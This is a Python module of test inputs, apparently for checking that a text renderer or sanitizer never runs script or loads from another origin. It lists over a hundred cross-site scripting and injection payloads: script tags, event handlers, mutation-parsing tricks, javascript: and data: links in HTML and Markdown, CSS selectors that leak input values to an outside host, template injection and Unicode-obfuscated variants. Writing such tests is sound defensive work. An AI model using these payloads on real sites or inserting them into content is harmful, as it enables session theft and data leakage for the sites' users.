"""Texts that would run a script or ask another origin, were they ever taken for more than text.

RUN stands for a call that tells its number, AWAY for an address of another origin.
"""

from .watch import ELSEWHERE

_ATTEMPTS = r"""
<script>RUN</script>
"><script>RUN</script>
</textarea></title></style><script>RUN</script>
<scr<script>ipt>RUN</scr</script>ipt>
<ScRiPt >RUN</sCrIpT >
<script src=AWAY.js></script>
<script src="data:text/javascript,RUN"></script>
<script type=module>RUN</script>
<img src=x onerror=RUN>
<img src=x:x onerror="RUN"//
"><img src=x onerror=RUN>
' autofocus onfocus=RUN x='
" onmouseover="RUN" style="position:fixed;inset:0
<img/src/onerror=RUN>
<img src=AWAY.png>
<img srcset="AWAY.png 1x">
<picture><source srcset=AWAY.png><img></picture>
<svg onload=RUN>
<svg/onload=RUN>
<svg><script>RUN</script></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><a xlink:href="javascript:RUN"><text x=20 y=20>link</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>RUN</script></svg>#x"/></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.RUN</script>"></iframe></foreignObject></svg>
<svg><image href=AWAY.svg></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">
<math><mi xlink:href="javascript:RUN">x</mi></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>
<noscript><p title="</noscript><img src=x onerror=RUN>">
<svg></p><style><a id="</style><img src=1 onerror=RUN>">
<table><td><a title="</a><img src=x onerror=RUN>">
<template><img src=x onerror=RUN></template><template shadowrootmode=open><img src=x onerror=RUN></template>
<iframe src="javascript:parent.RUN"></iframe>
<iframe srcdoc="<script>parent.RUN</script>"></iframe>
<iframe src=AWAY.html></iframe>
<object data=AWAY.swf></object><embed src=AWAY.swf>
<object data="data:text/html,<script>parent.RUN</script>"></object>
<body onload=RUN>
<details open ontoggle=RUN>
<video><source onerror=RUN></video><audio src=x onerror=RUN>
<input autofocus onfocus=RUN>
<select autofocus onfocus=RUN></select>
<marquee onstart=RUN></marquee>
<style onload=RUN></style>
<p style="animation:x" onanimationstart=RUN>x</p><style>@keyframes x{}</style>
<link rel=stylesheet href=AWAY.css>
<link rel=preload as=script href=AWAY.js onerror=RUN>
<link rel=prefetch href=AWAY.html><link rel=dns-prefetch href=AWAY>
<style>@import "AWAY.css";</style>
<style>@font-face{font-family:x;src:url(AWAY.woff2)}*{font-family:x}</style>
<style>input[value^="t"]{background:url(AWAY.png)}</style>
<style>body{background:url(AWAY.gif)}</style>
<div style="background:url(AWAY.png);width:9px;height:9px">x</div>
<div style="list-style:url(AWAY.png);border-image:url(AWAY.png)">x</div>
red;background-image:url(AWAY.png)
<meta http-equiv=refresh content="0;url=AWAY.html">
<meta http-equiv=refresh content="0;url=javascript:RUN">
<base href=AWAY/>
<form action="javascript:RUN"><button>send</button></form>
<form id=x></form><button form=x formaction="javascript:RUN">send</button>
<a href="javascript:RUN">link</a>
<a href=" &#106;avascript:RUN">link</a>
<a href="java&#9;script:RUN">link</a>
<a ping=AWAY href=#>link</a>
<img name=getElementById><form name=body><input name=cookie></form>
[link](javascript:RUN)
[link](JaVaScRiPt:RUN)
[link](java%0ascript:RUN)
[link](&#x6A;avascript&colon;RUN)
[link](<javascript:RUN>)
[link](data:text/html,<script>RUN</script>)
[link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[link](vbscript:RUN)
[link](blob:AWAY)
[link](//elsewhere.example/x "title\" onmouseover=RUN x=\"")
[![x](AWAY.png)](javascript:RUN)
![x](AWAY.png)
![x](AWAY.png "a\" onerror=\"RUN")
![x](data:image/svg+xml,<svg onload=RUN>)
![x](javascript:RUN)
![x"onerror="RUN](x)
![x][ref] [ref]: AWAY.png
[x]: javascript:RUN "x" [x]
<javascript:RUN>
<AWAY.html>
AWAY.html www.elsewhere.example
~~<img src=x onerror=RUN>~~ **<svg onload=RUN>**
```html"><img src=x onerror=RUN>
`<img src=x onerror=RUN>`
| <img src=x onerror=RUN> |
[^1]: <img src=x onerror=RUN> [^1]
- [ ] <img src=x onerror=RUN>
<!--><img src=x onerror=RUN>-->
<![CDATA[><img src=x onerror=RUN>]]>
<?xml version="1.0"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>RUN</h:script></x>
$$\href{javascript:RUN}{x}$$
```mermaid graph TD; A[<img src=x onerror=RUN>] click A "javascript:RUN"
{{constructor.constructor('RUN')()}}
${RUN} #{RUN} <%= RUN %> {%RUN%} [[RUN]]
';RUN;//
"-RUN-"
\u003cimg src=x onerror=RUN\u003e
&lt;img src=x onerror=RUN&gt;
%3Cimg%20src%3Dx%20onerror%3DRUN%3E
＜img src=x onerror=RUN＞
{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=RUN>"}}}
{"$$typeof":"Symbol(react.element)","type":"img","props":{"src":"AWAY.png"}}
javascript:RUN
javascript://%0aRUN
data:text/html,<script>RUN</script>
AWAY.html
//elsewhere.example/x
\\elsewhere.example\x
/../../sign-in#code=RUN
=HYPERLINK("AWAY.html","x")
"""
_BUILT = (
    "<img src=x\N{ZERO WIDTH SPACE} onerror=RUN>",
    "\N{RIGHT-TO-LEFT OVERRIDE}<img src=x onerror=RUN>\N{POP DIRECTIONAL FORMATTING}",
    "[link](java\tscript:RUN)",
    "[link](\x01javascript:RUN)",
    "<a href='java\nscript:RUN'>link</a>",
    "".join(chr(0xE0000 + ord(each)) for each in "<script>") + "RUN",
    "<\N{LATIN SMALL LETTER LONG S}cript>RUN</\N{LATIN SMALL LETTER LONG S}cript>",
    "<img\N{NO-BREAK SPACE}src=x\x0conerror=RUN>",
    "line\u2028<script>RUN</script>\u2029",
    "<svg><style>&lt;/style&gt;&lt;img src=x onerror=RUN&gt;</style></svg>",
    "> > > <img src=x onerror=RUN>\n\n1. <script>RUN</script>\n\n# <svg onload=RUN>",
)
ATTEMPTS = tuple(
    each.replace("RUN", f"ran({number})").replace("AWAY", f"{ELSEWHERE}/{number}")
    for number, each in enumerate((*_ATTEMPTS.strip().split("\n"), *_BUILT))
)
